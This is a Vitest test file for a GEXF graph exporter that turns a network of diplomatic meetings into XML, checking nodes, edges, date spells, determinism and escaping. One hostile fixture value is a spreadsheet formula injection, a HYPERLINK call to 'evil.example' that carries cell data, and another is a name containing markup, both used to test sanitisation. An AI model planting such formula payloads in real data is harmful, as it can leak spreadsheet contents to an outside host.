import { describe, expect, it } from 'vitest';
import smallGraph from '../app/fixtures/small-graph.json';
import { parseGraph, type GraphDocument } from '../model';
import { TYPE_COLORS, hexToRgb } from './colors';
import { HOSTILE_NAME, hostileGraph, reversed } from './fixtures/graphs';
import { onlyXmlChars, parseXml } from './fixtures/xml';
import { toGexf } from './gexf';
import { meetingsByPair } from './pairs';

function loadSmall(): GraphDocument {
  const result = parseGraph(smallGraph);
  if (!result.ok) throw new Error(result.errors.join('; '));
  return result.graph;
}

function readGexf(graph: GraphDocument) {
  const doc = parseXml(toGexf(graph));
  const g = doc.gexf.graph;
  const nodes: any[] = g.nodes?.node ?? [];
  const edges: any[] = g.edges?.edge ?? [];
  const attvalues = (element: any): Record<string, string> =>
    Object.fromEntries((element.attvalues?.attvalue ?? []).map((a: any) => [a.for, a.value]));
  return { doc, graph: g, nodes, edges, attvalues };
}

describe('toGexf', () => {
  it('declares GEXF 1.3, a dynamic graph with date time format, undirected edges', () => {
    const { doc, graph } = readGexf(loadSmall());
    expect(doc.gexf.xmlns).toBe('http://gexf.net/1.3');
    expect(doc.gexf.version).toBe('1.3');
    expect(graph.mode).toBe('dynamic');
    expect(graph.timeformat).toBe('date');
    expect(graph.defaultedgetype).toBe('undirected');
  });

  it('has one node per entity and one edge per participant pair on the small fixture', () => {
    const small = loadSmall();
    const { nodes, edges } = readGexf(small);
    expect(nodes).toHaveLength(small.entities.length);
    expect(edges).toHaveLength(meetingsByPair(small).length);
    // m-1..m-7 give 1+1+1+1+6+1+1 pairs, but Xi and Martin met twice (m-5, m-6).
    expect(edges).toHaveLength(11);
    expect(edges.find((e) => e.id === 'person:luc-martin|person:xi-jinping').weight).toBe('2');
  });

  it('gives nodes their label, type, country, role, aliases, meeting count and type colour', () => {
    const { nodes, attvalues } = readGexf(loadSmall());
    const xi = nodes.find((n) => n.id === 'person:xi-jinping');
    expect(xi.label).toBe('Xi Jinping');
    expect(attvalues(xi)).toEqual({ type: 'person', country: 'CHN', role: 'President', aliases: 'Xi', meetings: '3' });
    const { r, g, b } = hexToRgb(TYPE_COLORS.person);
    expect(xi['viz:color']).toEqual({ r: String(r), g: String(g), b: String(b) });
    const brics = nodes.find((n) => n.id === 'organisation:brics');
    expect(attvalues(brics)).not.toHaveProperty('country');
    expect(brics['viz:color'].g).toBe(String(hexToRgb(TYPE_COLORS.organisation).g));
  });

  it('puts one edge per pair with each meeting as a spell, year and month dates expanded to days, overlaps merged', () => {
    const { edges, attvalues } = readGexf(hostileGraph());
    expect(edges.map((e) => e.id)).toEqual([
      'country:DAV|organisation:carol',
      'organisation:carol|person:bob',
      'organisation:carol|person:hostile',
      'person:bob|person:hostile',
    ]);
    const pair = edges[3];
    expect(pair.weight).toBe('4');
    // m-10 (2023) swallows m-2 and m-3 (both 2023-06-01); m-4 is February of a leap year.
    expect(pair.spells.spell).toEqual([
      { start: '2023-01-01', end: '2023-12-31' },
      { start: '2024-02-01', end: '2024-02-29' },
    ]);
    expect(attvalues(pair)).toMatchObject({
      kind: 'talks; phone_call; visit; summit',
      meetings: 'm-2; m-3; m-4; m-10',
      meetingCount: '4',
      firstDate: '2023-01-01',
      lastDate: '2024-02-29',
      location: '=HYPERLINK("http://evil.example/?"&A1,"click"); Paris & <Lyon>',
    });
  });

  it('gives a day-precise meeting a one-day spell', () => {
    const { edges } = readGexf(loadSmall());
    const talks = edges.find((e) => e.id === 'person:anna-pappa|person:wang-yi');
    expect(talks.spells.spell).toEqual([{ start: '2024-02-27', end: '2024-02-27' }]);
    expect(talks.label).toBe('Talks');
  });

  it('leaves an edge whose meetings are all undated without spells (always present)', () => {
    const { edges, attvalues } = readGexf(hostileGraph());
    const undated = edges[0];
    expect(undated.spells).toBeUndefined();
    expect(attvalues(undated)).not.toHaveProperty('firstDate');
    expect(attvalues(undated).kind).toBe('video_call');
  });

  it('round-trips a hostile name as text and strips characters XML 1.0 cannot hold', () => {
    const xml = toGexf(hostileGraph());
    expect(xml).not.toContain('<img');
    expect(onlyXmlChars(xml)).toBe(true);
    const { nodes, attvalues } = readGexf(hostileGraph());
    const hostile = nodes.find((n) => n.id === 'person:hostile');
    expect(hostile.label).toBe(HOSTILE_NAME);
    expect(attvalues(hostile).aliases).toBe("O'Brien; CtrlChar");
    expect(nodes.find((n) => n.id === 'person:bob').label).toBe('Bob, Jr.');
    // Labels are xsd:token in the GEXF schema: line breaks and runs of spaces collapse.
    expect(nodes.find((n) => n.id === 'country:DAV').label).toBe('@Daveland Republic');
  });

  it('is deterministic: input order does not change a byte', () => {
    const graph = hostileGraph();
    expect(toGexf(reversed(graph))).toBe(toGexf(graph));
  });

  it('writes lastmodifieddate only when asked, so default output is reproducible', () => {
    expect(parseXml(toGexf(loadSmall())).gexf.meta.lastmodifieddate).toBeUndefined();
    expect(parseXml(toGexf(loadSmall(), { lastModified: '2024-06-01' })).gexf.meta.lastmodifieddate).toBe('2024-06-01');
  });

  it('exports an empty graph as a valid document', () => {
    const { nodes, edges } = readGexf({ schemaVersion: 1, entities: [], meetings: [] });
    expect(nodes).toEqual([]);
    expect(edges).toEqual([]);
  });
});
